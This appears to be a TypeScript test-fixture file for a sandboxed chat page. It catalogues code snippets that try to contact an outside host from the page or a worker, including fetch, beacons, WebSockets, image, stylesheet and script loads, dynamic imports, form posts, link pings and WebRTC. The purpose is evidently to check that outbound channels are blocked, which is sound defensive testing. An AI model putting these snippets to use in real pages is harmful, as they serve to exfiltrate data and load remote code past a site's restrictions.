/**
 * Ways in which a script that already runs could carry text to another host. Each is a function's source, with the address
 * to reach as `target`; it runs in the page or in a worker as it stands, whatever that place forbids.
 */
export type Attempts = Record<string, string>;

const element = (name: string, properties: string) =>
  `document.body.append(Object.assign(document.createElement('${name}'), { ${properties} }))`;

/** In the page, which they leave as it is. */
export const PAGE_ATTEMPTS: Attempts = {
  fetch: `fetch(target, { mode: 'no-cors' })`,
  'fetch-keepalive': `fetch(target, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`,
  'xml-http-request': `const r = new XMLHttpRequest(); r.open('GET', target); r.send()`,
  beacon: `navigator.sendBeacon(target, 'x')`,
  'web-socket': `new WebSocket(target.replace('http', 'ws'))`,
  'event-source': `new EventSource(target)`,
  image: `new Image().src = target`,
  'image-srcset': element('img', `srcset: target + ' 1x'`),
  stylesheet: element('link', `rel: 'stylesheet', href: target`),
  'css-background': `const s = new CSSStyleSheet(); s.replaceSync('body { background: url(' + target + ') }'); document.adoptedStyleSheets.push(s)`,
  'css-font': `new FontFace('x', 'url(' + target + ')').load()`,
  prefetch: element('link', `rel: 'prefetch', href: target`),
  preload: element('link', `rel: 'preload', as: 'image', href: target`),
  'module-preload': element('link', `rel: 'modulepreload', href: target`),
  icon: `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: target }))`,
  script: element('script', `src: target`),
  'dynamic-import': `import(target)`,
  frame: element('iframe', `src: target`),
  object: element('object', `data: target`),
  embed: element('embed', `src: target`),
  video: element('video', `src: target, preload: 'auto'`),
  'blob-worker': `new Worker(URL.createObjectURL(new Blob(['fetch("' + target + '", { mode: "no-cors" })'])))`,
  'link-ping': `const a = Object.assign(document.createElement('a'), { href: '#', ping: target }); document.body.append(a); a.click()`,
  'speculation-rules': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [target] }] }); document.head.append(s)`,
  webrtc: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + new URL(target).host + '?transport=tcp', username: 'x', credential: 'x' }] }); p.createDataChannel('x'); p.setLocalDescription()`,
};

/** In the page, which they would leave. */
export const LEAVING_ATTEMPTS: Attempts = {
  navigation: `location.href = target`,
  'new-window': `open(target)`,
  form: `const f = Object.assign(document.createElement('form'), { action: target, method: 'post' }); document.body.append(f); f.submit()`,
  'meta-refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + target }))`,
};

/** In the chat worker, as if the engine had been taken over. */
export const WORKER_ATTEMPTS: Attempts = {
  'worker-fetch': `fetch(target, { mode: 'no-cors' })`,
  'worker-xml-http-request': `const r = new XMLHttpRequest(); r.open('GET', target); r.send()`,
  'worker-web-socket': `new WebSocket(target.replace('http', 'ws'))`,
  'worker-event-source': `new EventSource(target)`,
  'worker-import': `import(target)`,
  'worker-nested': `new Worker(URL.createObjectURL(new Blob(['fetch("' + target + '", { mode: "no-cors" })'])))`,
};
